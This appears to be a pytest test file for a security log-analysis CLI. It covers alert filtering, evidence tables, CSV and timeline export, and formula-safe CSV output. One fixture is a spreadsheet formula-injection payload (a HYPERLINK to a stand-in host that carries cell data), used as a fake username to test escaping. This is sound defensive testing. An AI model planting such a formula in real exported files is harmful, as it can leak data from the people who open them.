"""The analyst's path through the CLI: alert to evidence, CSV, timelines, output widths."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from tests.conftest import shared
from tests.test_cli import EXAMPLE, jsonl, tocsin

BRUTE_FORCE_IP = "183.62.140.253"


@pytest.fixture(scope="module")
def openssh_case(tmp_path_factory) -> tuple[Path, list[dict]]:
    """The OpenSSH sample scanned into a case database, with the alerts the scan printed."""
    db = tmp_path_factory.mktemp("case") / "case.db"
    result = tocsin("scan", str(shared("authlogs/OpenSSH_2k.log")), "--db", str(db), "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    return db, jsonl(result.stdout)


def test_alerts_lists_and_filters_a_case_database(openssh_case):
    db, scanned = openssh_case
    listed = jsonl(tocsin("alerts", "--db", str(db)).stdout)
    assert sorted(a["id"] for a in listed) == sorted(a["id"] for a in scanned) and len(listed) == 16
    assert [a["rule"]["level"] for a in listed] == sorted(
        (a["rule"]["level"] for a in listed), key=["critical", "high", "medium", "low", "informational"].index
    )
    high = jsonl(tocsin("alerts", "--db", str(db), "--min-level", "high").stdout)
    assert len(high) == 11 and {a["rule"]["level"] for a in high} == {"high"}
    medium = jsonl(tocsin("alerts", "--db", str(db), "--level", "medium").stdout)
    assert len(medium) == 5 and {a["rule"]["title"] for a in medium} == {"Brute Force Against One Account"}
    spraying = jsonl(tocsin("alerts", "--db", str(db), "--rule", "password SPRAYING").stdout)
    assert len(spraying) == 4
    by_ip = jsonl(tocsin("alerts", "--db", str(db), "--entity", f"source.ip={BRUTE_FORCE_IP}").stdout)
    assert {a["rule"]["title"] for a in by_ip} == {
        "Brute Force From One Source",
        "Password Spraying From One Source",
    }
    by_user = jsonl(tocsin("alerts", "--db", str(db), "--entity", "root").stdout)
    assert len(by_user) == 3 and all(a["group_by"] == {"user.name": "root"} for a in by_user)
    late = jsonl(
        tocsin(
            "alerts", "--db", str(db), "--since", "2025-12-10T10:50", "--until", "2025-12-10 11:00Z"
        ).stdout
    )
    assert late and all(
        a["window"]["end"] >= "2025-12-10T10:50" and a["window"]["start"] <= "2025-12-10T11:00" for a in late
    )
    assert len(late) < len(listed)
    bad = tocsin("alerts", "--db", str(db), "--since", "yesterday")
    assert bad.returncode == 2 and "ISO 8601" in bad.stderr
    not_a_case = tocsin("alerts", "--db", str(EXAMPLE))
    assert not_a_case.returncode == 2 and "not a tocsin case database" in not_a_case.stderr


def test_alerts_table_has_short_ids_that_show_resolves(openssh_case):
    db, _ = openssh_case
    table = tocsin("alerts", "--db", str(db), "--format", "table", "--entity", BRUTE_FORCE_IP).stdout
    rows = [line.split("│") for line in table.splitlines() if line.startswith("│ ") and line[2:4].strip()]
    assert len(rows) == 2
    short_id = rows[0][1].strip()
    assert re.fullmatch(r"[0-9a-f]{10}", short_id)
    shown = json.loads(tocsin("show", short_id, "--db", str(db)).stdout)
    assert (
        shown["alert"]["id"].startswith(short_id) and len(shown["evidence"]) == shown["alert"]["event_count"]
    )


def test_scan_table_shows_the_alert_id():
    result = tocsin("scan", str(EXAMPLE), "--format", "table")
    rows = [
        line.split("│") for line in result.stdout.splitlines() if line.startswith("│ ") and line[2:4].strip()
    ]
    ids = {a["id"][:10] for a in jsonl(tocsin("scan", str(EXAMPLE), "--format", "jsonl").stdout)}
    assert {row[1].strip() for row in rows} == ids


def test_show_prints_an_evidence_table_with_a_limit(openssh_case):
    db, scanned = openssh_case
    brute = next(a for a in scanned if a["rule"]["title"] == "Brute Force From One Source"
                 and a["source"]["ip"] == BRUTE_FORCE_IP)  # fmt: skip
    result = tocsin("show", brute["id"][:8], "--db", str(db), "--format", "table", "--limit", "5")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "Evidence: 5 of 286 event(s)" in out and "5 of 286 evidence events shown" in result.stderr
    assert "event_count 279 at the peak of one rule window; 286 events in all" in out
    evidence_rows = [line for line in out.splitlines() if "Failed password" in line]
    assert len(evidence_rows) == 5
    assert all(BRUTE_FORCE_IP in row and "LabSZ" in row for row in evidence_rows)
    assert "Dec 10 10:54:29 LabSZ sshd[24868]: Failed password for invalid user zhangyan" in evidence_rows[0]
    as_csv = list(csv.DictReader(io.StringIO(
        tocsin("show", brute["id"], "--db", str(db), "--format", "csv", "--limit", "300").stdout)))  # fmt: skip
    assert len(as_csv) == 286 and {row["source.ip"] for row in as_csv} == {BRUTE_FORCE_IP}
    as_jsonl = jsonl(tocsin("show", brute["id"], "--db", str(db), "--format", "jsonl", "--limit", "3").stdout)
    assert [e["event"]["id"] for e in as_jsonl] == [row["id"] for row in as_csv[:3]]


def test_show_refuses_an_ambiguous_prefix(openssh_case):
    db, _ = openssh_case
    result = tocsin("show", "0", "--db", str(db))
    assert result.returncode == 2 and "ambiguous" in result.stderr and "Traceback" not in result.stderr


FORMULA_USER = '=HYPERLINK("http://x.example/?"&A1,"x")'


def _formula_log(path: Path) -> Path:
    """Ten failed logins for a user named like a spreadsheet formula, from one source."""
    path.write_text("".join(
        f"Mar  3 06:1{i}:00 web01 sshd[{100 + i}]: Failed password for invalid user {FORMULA_USER} "
        f"from 198.51.100.66 port {4000 + i} ssh2\n" for i in range(10)
    ))  # fmt: skip
    return path


def test_csv_output_is_formula_safe(tmp_path):
    log = _formula_log(tmp_path / "formula.log")
    result = tocsin("scan", str(log), "--format", "csv", "-o", str(tmp_path / "alerts.csv"))
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "alerts.csv").stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader((tmp_path / "alerts.csv").open(newline="")))
    assert {row["rule"] for row in rows} == {"Brute Force From One Source", "Brute Force Against One Account"}
    per_account = next(row for row in rows if row["rule"] == "Brute Force Against One Account")
    assert per_account["user"] == "'" + FORMULA_USER and per_account["event_count"] == "10"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    events = list(
        csv.DictReader(io.StringIO(tocsin("events", str(log), "--format", "csv", "--limit", "4").stdout))
    )
    assert len(events) == 4 and events[0]["user.name"] == "'" + FORMULA_USER
    assert events[0]["original"].startswith("Mar  3 06:10:00 web01 sshd[100]: Failed password")


def test_alerts_csv_from_a_case_database(openssh_case):
    db, scanned = openssh_case
    rows = list(csv.DictReader(io.StringIO(tocsin("alerts", "--db", str(db), "--format", "csv").stdout)))
    assert sorted(row["id"] for row in rows) == sorted(a["id"] for a in scanned)
    brute = next(row for row in rows if row["source"] == BRUTE_FORCE_IP and row["rule"].startswith("Brute"))
    assert brute["event_count"] == "286" and brute["first_seen"] == "2025-12-10T10:54:29Z"


def test_timeline_for_timesketch(tmp_path):
    sample = str(shared("authlogs/OpenSSH_2k.log"))
    as_csv, as_jsonl = tmp_path / "timeline.csv", tmp_path / "timeline.jsonl"
    assert tocsin("scan", sample, "-o", os.devnull, "--timeline", str(as_csv)).returncode == 0
    assert tocsin("scan", sample, "-o", os.devnull, "--timeline", str(as_jsonl)).returncode == 0
    rows = list(csv.DictReader(as_csv.open(newline="")))
    documents = jsonl(as_jsonl.read_text())
    assert len(rows) == len(documents) == 16
    assert [row["alert_id"] for row in rows] == [d["alert_id"] for d in documents]
    times = [row["datetime"] for row in rows]
    assert times == sorted(times) and times[0] == "2025-12-10T07:27:52Z"
    assert all({"datetime", "timestamp_desc", "message"} <= set(d) and d["message"] for d in documents)
    brute = next(d for d in documents if d["source"] == BRUTE_FORCE_IP and d["rule"].startswith("Brute"))
    assert brute["timestamp_desc"] == "Detection window start" and brute["datetime"] == "2025-12-10T10:54:29Z"
    assert brute["message"].startswith("[high] Brute Force From One Source: 286 events")


def test_output_fits_its_destination(tmp_path):
    rules = tmp_path / "rules-with-a-long-folder-name-so-that-the-summary-line-is-longer-than-eighty-columns"
    rules.mkdir()
    (rules / "broken.yml").write_text(
        "title: broken\nlogsource: {product: linux}\ndetection:\n  condition: nothing\n"
    )
    table_file = tmp_path / "alerts.txt"
    result = tocsin("scan", str(EXAMPLE), "--rules", str(rules), "--format", "table", "-o", str(table_file),
                    env={"COLUMNS": "80"})  # fmt: skip
    rejected = [line for line in result.stderr.splitlines() if "rejected" in line and "broken.yml" in line]
    assert (
        len(rejected) == 1 and len(rejected[0]) > 120 and str(rules) in rejected[0]
    )  # one line, not wrapped
    rows = [
        line for line in table_file.read_text().splitlines() if line.startswith("│ ") and line[2:4].strip()
    ]
    assert len(rows) == 5  # one line per alert at full width, nothing folded or cut
    assert any(
        "Successful Authentication After Repeated Failures" in row and "host.name=web01" in row
        for row in rows
    )
    assert "…" not in table_file.read_text()
    narrow = tocsin("scan", str(EXAMPLE), "--format", "table", "--width", "100").stdout
    assert max(map(len, narrow.splitlines())) <= 100 and "critical" in narrow
    events = tocsin("events", str(EXAMPLE), "--format", "table", "--limit", "3").stdout
    assert sum("Accepted publickey for alice" in line for line in events.splitlines()) == 1


def test_rule_findings_are_one_line_each_in_files(tmp_path):
    folder = tmp_path / ("a-folder-long-enough-that-a-finding-line-is-longer-than-two-hundred-columns-" * 2)
    folder.mkdir()
    (folder / "broken.yml").write_text("title: broken\nlogsource: {product: linux}\ndetection: {}\n")
    result = tocsin("rules", "check", str(folder), env={"COLUMNS": "80"})
    findings = result.stdout.splitlines()
    assert findings and all(line.startswith(("error ", "warning ")) for line in findings)
    assert all(len(line) > 250 and f"{folder}/broken.yml" in line for line in findings)  # not cut at 200


def test_yara_alerts_have_titles_people_read(tmp_path):
    never = tmp_path / "never.yar"  # files are scanned when YARA rules are named; the built-in ones run too
    never.write_text("rule never { condition: false }")
    leaked = tmp_path / "backup.bin"
    leaked.write_bytes(b"\x00-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n")
    result = tocsin("scan", str(leaked), "--yara", str(never), "--format", "jsonl")
    (alert,) = jsonl(result.stdout)
    assert alert["rule"]["title"] == "Private Key In Clear" and alert["rule"]["type"] == "yara"
    assert alert["message"].startswith("Private Key In Clear: YARA rule tocsin_private_key matched ")
    assert "  top rules: Private Key In Clear (1)" in result.stderr.splitlines()
